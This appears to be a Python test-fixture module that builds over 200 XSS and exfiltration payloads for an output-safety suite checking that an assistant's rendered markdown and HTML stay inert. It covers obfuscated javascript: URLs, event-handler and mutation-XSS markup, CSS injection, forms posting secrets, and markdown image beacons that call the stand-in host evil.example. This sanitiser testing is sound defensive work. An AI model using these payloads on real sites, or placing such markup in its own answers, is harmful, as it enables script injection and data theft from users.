"""XSS and exfiltration payloads for the output-safety suite (tests/security/test_output_safety.py).

Assistant answers (from the model or from knowledge-base entries) are hostile: each payload here is
a piece of markdown or HTML that, if it reached the page as markup, would run script (every
script calls ``__xss.hit()``, or ``alert``, which the browser test instruments), open a dialog,
or make the browser contact a host other than the site's (``evil.example``). Built by code so the
obfuscated forms are generated rather than typed by hand.
"""

from __future__ import annotations

HIT = "__xss.hit()"
EVIL = "http://evil.example"

# A javascript: URL written in the ways browsers (or sloppy sanitisers) still read as javascript:.
JS_URLS = [
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f" javascript:{HIT}",
    f"javascript&colon;{HIT}",
    f"&#106;avascript:{HIT}",
    f"&#x6A;avascript:{HIT}",
    f"&#0000106&#0000097vascript:{HIT}",
    f"java&#x09;script:{HIT}",
    f"java&#x0A;script:{HIT}",
    f"java&Tab;script:{HIT}",
    f"java%0ascript:{HIT}",
    f"javascript%3A{HIT}",
    f"%6A%61%76%61%73%63%72%69%70%74:{HIT}",
    f"\\x6Aavascript:{HIT}",
    f"javascript://%0a{HIT}",
    f"javascript:/*--></title></style></textarea></script><svg/onload={HIT}>",
    f"jav\u0000ascript:{HIT}",
    f"vbscript:{HIT}",
    "VBSCRIPT:msgbox(1)",
    f"data:text/html,<script>{HIT}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcy5oaXQoKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={HIT}>",
    f"DATA:text/html,<script>{HIT}</script>",
    "file:///etc/passwd",
    f"livescript:{HIT}",
]


def _link_forms(url: str) -> list[str]:
    """The same URL as a markdown link, an angle-bracket link, a reference link and raw HTML."""
    return [
        f"[click]({url})",
        f"[click](<{url}>)",
        f"[click][ref]\n\n[ref]: {url}",
        f'<a href="{url}">click</a>',
        f"![img]({url})",
    ]


BASE = [
    # Raw HTML: script in its many spellings.
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<script src={EVIL}/x.js></script>",
    f"<script/src={EVIL}/x.js></script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script>/*</script><script>*/{HIT}</script>",
    f'<script type="module">{HIT}</script>',
    f"<<script>{HIT};//<</script>",
    f"<script\n>{HIT}</script\n>",
    f"</p><script>{HIT}</script><p>",
    # Event handlers.
    f"<img src=x onerror={HIT}>",
    f'<img src="x" onerror="{HIT}">',
    f"<IMG SRC=x ONERROR={HIT}>",
    f"<img/src=x/onerror={HIT}>",
    f"<img src=x onerror\n={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}>",
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}>",
    f"<textarea autofocus onfocus={HIT}></textarea>",
    f"<details open ontoggle={HIT}>",
    f"<video src=x onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<video><source onerror={HIT}></video>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<iframe onload={HIT}></iframe>",
    f"<object data=x onerror={HIT}></object>",
    f"<a href=# onmouseover={HIT}>hover</a>",
    f"<div onpointerenter={HIT} style=position:fixed;inset:0>x</div>",
    f'<p onclick="{HIT}">click</p>',
    f"<b onmouseover={HIT}>bold</b>",
    f'<a href="https://ok.example" onclick="{HIT}">ok</a>',
    f"<table background=javascript:{HIT}>",
    "<img src=x:x onerror=alert(1)>",
    "<img src=x onerror=confirm(1)>",
    "<img src=x onerror=prompt(1)>",
    "<img src=x onerror=eval(atob('X194c3MuaGl0KCk='))>",
    f"<style onload={HIT}></style>",
    f"<link rel=stylesheet onload={HIT} href=data:text/css,x>",
    # SVG and MathML.
    f"<svg><script>{HIT}</script></svg>",
    f'<svg><a xlink:href="javascript:{HIT}"><text y=20>x</text></a></svg>',
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f'<svg><set attributeName=onmouseover to="{HIT}"/>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={HIT}>#x"/></svg>',
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<svg><image href={EVIL}/i.png /></svg>",
    f'<math><maction actiontype="statusline" xlink:href="javascript:{HIT}">x</maction></math>',
    f'<math href="javascript:{HIT}">click</math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<svg><desc><img src=x onerror={HIT}></desc></svg>",
    # Mutation XSS: markup that changes meaning when parsed a second time.
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    f"<style><img src=x onerror={HIT}></style>",
    f"<template><img src=x onerror={HIT}></template>",
    f'<svg></p><style><a id="</style><img src=1 onerror={HIT}>">',
    f'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror={HIT}>"></style></svg></mglyph></mtext></math>',  # noqa: E501
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HIT}>",
    f'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={HIT} src=1>">',
    f"<svg><style>&lt;img src=x onerror={HIT}&gt;</style></svg>",
    f"<xmp><img src=x onerror={HIT}></xmp>",
    f"<listing>&lt;img src=x onerror={HIT}&gt;</listing>",
    f'<noembed><img title="</noembed><img src=x onerror={HIT}>"></noembed>',
    f'<iframe><img title="</iframe><img src=x onerror={HIT}>"></iframe>',
    f'<textarea><img title="</textarea><img src=x onerror={HIT}>"></textarea>',
    f'<title><img title="</title><img src=x onerror={HIT}>"></title>',
    f"<!--><img src=x onerror={HIT}>-->",
    f"<!-- --!><img src=x onerror={HIT}> -->",
    f"<![CDATA[><img src=x onerror={HIT}>]]>",
    f"<?xml ?><img src=x onerror={HIT}>",
    # Markdown images to outside hosts (exfiltration by URL).
    f"![x]({EVIL}/pixel.gif)",
    f"![x]({EVIL}/leak?data=SECRET)",
    "![x](//evil.example/pixel.gif)",
    f'![x]({EVIL}/p.gif "title")',
    f"![x][img]\n\n[img]: {EVIL}/ref.gif",
    f"![![nested]({EVIL}/in.gif)]({EVIL}/out.gif)",
    f"[![badge]({EVIL}/badge.svg)](https://ok.example)",
    f"<img src={EVIL}/raw.gif>",
    f"<img srcset='{EVIL}/a.gif 1x'>",
    f"<picture><source srcset={EVIL}/s.gif><img></picture>",
    f"<video poster={EVIL}/poster.gif></video>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    f"<input type=image src={EVIL}/i.gif>",
    f"<track src={EVIL}/t.vtt>",
    f"<embed src={EVIL}/e.swf>",
    f"<object data={EVIL}/o.swf></object>",
    f"<applet code={EVIL}/a.class></applet>",
    # Markdown link tricks.
    f"<javascript:{HIT}>",
    f"<{EVIL}/autolink>",
    "<mailto:a@evil.example?subject=x>",
    f'[ok](https://ok.example "title" onmouseover="{HIT}")',
    f'[x](https://ok.example/" onmouseover="{HIT})',
    f"[x](https://ok.example/'onmouseover='{HIT})",
    f"[<img src=x onerror={HIT}>](https://ok.example)",
    f"[x](https://ok.example)<img src=x onerror={HIT}>",
    f"[x]( javascript:{HIT} )",
    f"[x](javascript:{HIT} 'title')",
    f"[x](\njavascript:{HIT})",
    f"[x][1]\n\n[1]: <javascript:{HIT}> 'title'",
    f"[x]: javascript:{HIT}\n\n[x]",
    f"[a](javascript:{HIT})[b](javascript:{HIT})",
    f"**[bold](javascript:{HIT})**",
    f"> [quote](javascript:{HIT})",
    f"- [item](javascript:{HIT})",
    f"| a |\n| - |\n| [cell](javascript:{HIT}) |",
    f"# [title](javascript:{HIT})",
    # CSS injection.
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>body{{background:url({EVIL}/bg.gif)}}</style>",
    f"<style>*{{behavior:url({EVIL}/x.htc)}}</style>",
    f"<div style=\"background:url('{EVIL}/s.gif')\">x</div>",
    f'<div style="width:expression({HIT})">x</div>',
    f'<p style="background-image:url(javascript:{HIT})">x</p>',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=preload href={EVIL}/f.woff2 as=font crossorigin>",
    f"<link rel=prefetch href={EVIL}/p>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}</style>",
    f'<span style="font-family:x;src:url({EVIL}/f2.woff)">x</span>',
    f"<svg><style>@import url({EVIL}/svg.css)</style></svg>",
    "<style>input[value^=a]{background:url(http://evil.example/a)}</style>",
    # Meta refresh, base href, forms, frames.
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    "<meta http-equiv=set-cookie content='x=1'>",
    f"<base href={EVIL}/>",
    f"<base href=javascript:{HIT}//>",
    f"<form action={EVIL}/steal method=post><input name=p value=secret><button>Go</button></form>",
    f"<form><button formaction=javascript:{HIT}>Go</button></form>",
    f"<form id=f></form><button form=f formaction={EVIL}/b>x</button>",
    f"<isindex action={EVIL}/i type=image>",
    f"<iframe src={EVIL}/frame></iframe>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<iframe srcdoc='&lt;img src=x onerror=parent.{HIT}&gt;'></iframe>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<frameset><frame src={EVIL}/f></frameset>",
    f"<portal src={EVIL}/portal></portal>",
    f"<a href={EVIL}/ping ping={EVIL}/ping2>ping</a>",
    f"<area href=javascript:{HIT}>",
    f"<embed src=javascript:{HIT}>",
    f"<object data=javascript:{HIT}></object>",
    # HTML entities and encodings.
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"&amp;lt;img src=x onerror={HIT}&amp;gt;",
    f"\\<script\\>{HIT}\\</script\\>",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\u003cscript\u003e{HIT}\u003c/script\u003e",
    f"＜script＞{HIT}＜/script＞",
    f"<scr\u0000ipt>{HIT}</scr\u0000ipt>",
    # Inside markdown code: must stay text.
    f"`<img src=x onerror={HIT}>`",
    f"```html\n<script>{HIT}</script>\n```",
    f"    <svg onload={HIT}>",
    f"~~~\n<iframe src={EVIL}/code></iframe>\n~~~",
    # Mixed with ordinary markdown.
    f"**bold <b onclick={HIT}>x</b>**",
    f"_<i onmouseover={HIT}>it</i>_",
    f"1. <img src=x onerror={HIT}>\n2. two",
    f"> <script>{HIT}</script>",
    f"Visit [the site](https://ok.example/path?q=1&x=<script>{HIT}</script>)",
    f"<div><p>nested <span><img src=x onerror={HIT}></span></p></div>",
    '<a href="https://ok.example" target="_self" rel="opener">same tab</a>',
    f"<a href={EVIL}/download download>save</a>",
]


def payloads() -> list[str]:
    """Every payload once, in a stable order (more than 200)."""
    out = list(BASE)
    for url in JS_URLS:
        out.extend(_link_forms(url))
    seen: set[str] = set()
    unique = []
    for payload in out:
        if payload not in seen:
            seen.add(payload)
            unique.append(payload)
    return unique
